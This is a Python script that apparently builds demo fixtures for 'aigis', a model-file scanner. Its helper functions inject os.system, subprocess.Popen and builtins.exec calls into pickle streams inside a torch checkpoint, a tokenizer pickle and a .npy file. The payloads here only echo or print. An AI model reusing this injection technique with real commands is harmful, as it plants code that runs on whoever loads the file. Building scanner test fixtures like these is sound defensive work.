#!/usr/bin/python3
"""Write every model and data file of the aigis demo project, deterministically.

Run with Debian's python (it has torch 1.13, numpy, scikit-learn, joblib):

    /usr/bin/python3 examples/demo/generate.py

The benign files come from the real libraries (torch.save, joblib.dump, numpy). The three malicious
files are assembled from pickle opcodes as bytes: nothing here pickles an object with a __reduce__
method, and nothing here (or anywhere) ever loads the result. Their payloads are harmless on purpose
(`echo`, `print`), but they are still code that would run on load: never open them with
torch.load, pickle.load, joblib.load or np.load(allow_pickle=True).

Determinism: fixed seeds; torch's zip writer stores a fixed 1980 timestamp; the files this script
zips itself (features.npz, pretrained_backdoor.pt) use a fixed timestamp and fixed member order.
"""

import io
import os
import pickle
import pickletools
import struct
import zipfile
from collections import OrderedDict

import joblib
import numpy as np
import torch
from torch import nn
from sklearn.linear_model import LogisticRegression
from sklearn.pipeline import Pipeline
from sklearn.preprocessing import StandardScaler

HERE = os.path.dirname(os.path.abspath(__file__))
MODELS = os.path.join(HERE, "models")
DATA = os.path.join(HERE, "data")
FIXED_ZIP_TIME = (1980, 1, 1, 0, 0, 0)

SHELL_MESSAGE = "aigis demo: this model would run a command"
POPEN_MESSAGE = "aigis demo: these labels would start a process"
EXEC_SOURCE = "print('aigis demo: this tokenizer would run Python code')"


class TinyEncoder(nn.Module):
    """A user-defined module: torch.save(model) pickles a reference to __main__.TinyEncoder."""

    def __init__(self, dim_in=16, dim_hidden=8):
        super().__init__()
        self.proj = nn.Linear(dim_in, dim_hidden)
        self.norm = nn.LayerNorm(dim_hidden)

    def forward(self, x):
        return self.norm(torch.relu(self.proj(x)))


# --- pickle opcode helpers (bytes only) -------------------------------------------------------


def op_unicode(text):
    """BINUNICODE: a str constant of any length."""
    data = text.encode("utf-8")
    return b"X" + struct.pack("<I", len(data)) + data


def op_short_unicode(text):
    """SHORT_BINUNICODE (protocol 4): a str constant shorter than 256 bytes."""
    data = text.encode("utf-8")
    assert len(data) < 256
    return b"\x8c" + bytes([len(data)]) + data


def call_prefix_os_system(command):
    """GLOBAL os.system, (command,), REDUCE, POP: runs the command and discards its return code."""
    return b"cos\nsystem\n" + op_unicode(command) + b"\x85" + b"R" + b"0"


def call_prefix_popen(argv):
    """GLOBAL subprocess.Popen, ([argv...],), REDUCE, POP: starts a process, drops the handle."""
    out = b"csubprocess\nPopen\n" + b"]"  # EMPTY_LIST
    for arg in argv:
        out += op_unicode(arg) + b"a"  # APPEND
    return out + b"\x85" + b"R" + b"0"


def inject_after_proto(pickle_bytes, prefix):
    """Insert opcodes right after PROTO so they run before the original object is rebuilt.

    The prefix uses no memo slots, so the original's BINPUT/BINGET indices stay valid and the
    stream still returns the original object.
    """
    assert pickle_bytes[0] == 0x80, "expected a PROTO opcode first"
    return pickle_bytes[:2] + prefix + pickle_bytes[2:]


# --- writers ----------------------------------------------------------------------------------


def write_bytes(path, data):
    with open(path, "wb") as f:
        f.write(data)


def save_classifier():
    torch.manual_seed(0)
    model = nn.Sequential(nn.Linear(16, 32), nn.ReLU(), nn.Linear(32, 3))
    torch.save(model.state_dict(), os.path.join(MODELS, "classifier.pt"))
    return model


def save_encoder_full():
    torch.manual_seed(1)
    torch.save(TinyEncoder(), os.path.join(MODELS, "encoder_full.pt"))


def save_legacy():
    torch.manual_seed(2)
    model = nn.Sequential(nn.Linear(8, 4), nn.Tanh(), nn.Linear(4, 2))
    buf = io.BytesIO()
    torch.save(model.state_dict(), buf, _use_new_zipfile_serialization=False)
    write_bytes(os.path.join(MODELS, "legacy.pth"), renumber_legacy_storages(buf.getvalue()))


def pickle_ops(data, start):
    """(name, arg, pos) of every opcode of the pickle at `start`, and the offset after its STOP.

    pickletools.genops only decodes opcodes; it never imports or calls anything.
    """
    stream = io.BytesIO(data)
    stream.seek(start)
    ops = [(op.name, arg, pos) for op, arg, pos in pickletools.genops(stream)]
    return ops, stream.tell()


def renumber_legacy_storages(data):
    """Make a legacy torch.save deterministic.

    The legacy writer names each storage after its memory address and writes the storages sorted
    by that name, so two runs differ. Rename them "0", "1", ... in order of first use in the main
    pickle, and rewrite the key list and the storage blocks in the new order. The layout is
    otherwise untouched: magic, protocol, sys_info, main pickle, key list, storage blocks.
    """
    starts = [0]
    for _ in range(3):  # magic number, protocol version, sys_info
        starts.append(pickle_ops(data, starts[-1])[1])
    main_ops, main_end = pickle_ops(data, starts[3])
    key_ops, keys_end = pickle_ops(data, main_end)
    old_keys = [arg for name, arg, _ in key_ops if name == "BINUNICODE"]
    assert old_keys == sorted(old_keys) and len(old_keys) < 10
    order = []
    for name, arg, _ in main_ops:
        if name == "BINUNICODE" and arg in old_keys and arg not in order:
            order.append(arg)
    assert sorted(order) == old_keys
    renamed = {old: str(index) for index, old in enumerate(order)}
    main = bytearray()
    positions = [pos for _, _, pos in main_ops] + [main_end]
    for (name, arg, pos), nxt in zip(main_ops, positions[1:]):
        if name == "BINUNICODE" and arg in renamed:
            main += op_unicode(renamed[arg])
        else:
            main += data[pos:nxt]
    # Storage blocks follow the key list in sorted-old-key order: int64 element count, then the
    # raw elements (every storage here is a FloatStorage: 4 bytes an element).
    blocks, offset = {}, keys_end
    for old in old_keys:
        (count,) = struct.unpack_from("<q", data, offset)
        blocks[old] = data[offset : offset + 8 + 4 * count]
        offset += 8 + 4 * count
    assert offset == len(data)
    new_keys = pickle.dumps(sorted(renamed.values()), protocol=2)  # a list of str, as torch writes
    body = b"".join(blocks[old] for old in sorted(old_keys, key=lambda k: renamed[k]))
    return data[: starts[3]] + bytes(main) + new_keys + body


def save_scaler():
    rng = np.random.RandomState(3)
    x = rng.normal(size=(64, 4))
    y = (x[:, 0] + 0.5 * x[:, 1] > 0).astype(np.int64)
    pipe = Pipeline([("scale", StandardScaler()), ("clf", LogisticRegression(random_state=0))])
    pipe.fit(x, y)
    joblib.dump(pipe, os.path.join(MODELS, "scaler.joblib"), compress=0)


def npy_bytes(array):
    buf = io.BytesIO()
    np.lib.format.write_array(buf, array, allow_pickle=False)
    return buf.getvalue()


def save_arrays():
    rng = np.random.RandomState(4)
    np.save(os.path.join(DATA, "embeddings.npy"), rng.normal(size=(32, 16)).astype(np.float32))
    # np.savez stamps the current time into the zip; write the same layout with a fixed one.
    members = [
        ("x_train.npy", npy_bytes(rng.normal(size=(40, 16)).astype(np.float32))),
        ("y_train.npy", npy_bytes(rng.randint(0, 3, size=40).astype(np.int64))),
    ]
    with zipfile.ZipFile(os.path.join(DATA, "features.npz"), "w", zipfile.ZIP_STORED) as zf:
        for name, data in members:
            zf.writestr(zipfile.ZipInfo(name, date_time=FIXED_ZIP_TIME), data)


def save_backdoor(classifier):
    """A torch zip checkpoint whose data.pkl runs os.system before rebuilding the state dict."""
    clean = io.BytesIO()
    torch.save(classifier.state_dict(), clean)
    src = zipfile.ZipFile(io.BytesIO(clean.getvalue()))
    out_path = os.path.join(MODELS, "pretrained_backdoor.pt")
    with zipfile.ZipFile(out_path, "w", zipfile.ZIP_STORED) as dst:
        for info in src.infolist():
            data = src.read(info.filename)
            if info.filename.endswith("/data.pkl"):
                data = inject_after_proto(data, call_prefix_os_system("echo " + SHELL_MESSAGE))
            dst.writestr(zipfile.ZipInfo(info.filename, date_time=FIXED_ZIP_TIME), data)


def save_tokenizer():
    """Protocol 4 pickle importing builtins.exec through STACK_GLOBAL with names from the memo."""
    body = b""
    body += op_short_unicode("builtins") + b"\x94" + b"0"  # MEMOIZE -> memo[0], POP
    body += op_short_unicode("exec") + b"\x94" + b"0"  # MEMOIZE -> memo[1], POP
    body += b"h\x00" + b"h\x01" + b"\x93"  # BINGET 0, BINGET 1, STACK_GLOBAL
    body += op_short_unicode(EXEC_SOURCE) + b"\x85" + b"R" + b"0"  # (src,) REDUCE POP
    # The object the caller expects: a plain tokenizer dict.
    vocab = ["<pad>", "<unk>", "the", "model", "scan", "safe"]
    body += b"}" + b"(" + op_short_unicode("unk_token") + op_short_unicode("<unk>")
    body += op_short_unicode("vocab") + b"}" + b"("
    for index, token in enumerate(vocab):
        body += op_short_unicode(token) + b"K" + bytes([index])  # BININT1
    body += b"u" + b"u"  # SETITEMS (vocab), SETITEMS (outer)
    body += b"."  # STOP
    data = b"\x80\x04" + b"\x95" + struct.pack("<Q", len(body)) + body  # PROTO 4, FRAME
    write_bytes(os.path.join(MODELS, "tokenizer.pkl"), data)


def npy_header(descr, shape):
    """A version 1.0 .npy header, padded like numpy 1.24 does (total length a multiple of 64)."""
    text = "{'descr': %r, 'fortran_order': False, 'shape': %r, }" % (descr, shape)
    preamble = 10  # magic (6) + version (2) + header length (2)
    pad = (-(preamble + len(text) + 1)) % 64
    text = text + " " * pad + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(text)) + text.encode("latin1")


def save_labels():
    """Object-dtype .npy: the header by hand, then a pickle that calls subprocess.Popen first."""
    labels = np.array(["cat", "dog", "bird"], dtype=object)
    # Pickling (not loading) a plain object array yields the stream numpy itself would write.
    clean = pickle.dumps(labels, protocol=3)
    payload = inject_after_proto(clean, call_prefix_popen(["echo", POPEN_MESSAGE]))
    write_bytes(os.path.join(DATA, "labels.npy"), npy_header("|O", (3,)) + payload)


def main():
    os.makedirs(MODELS, exist_ok=True)
    os.makedirs(DATA, exist_ok=True)
    classifier = save_classifier()
    save_encoder_full()
    save_legacy()
    save_scaler()
    save_arrays()
    save_backdoor(classifier)
    save_tokenizer()
    save_labels()


if __name__ == "__main__":
    main()
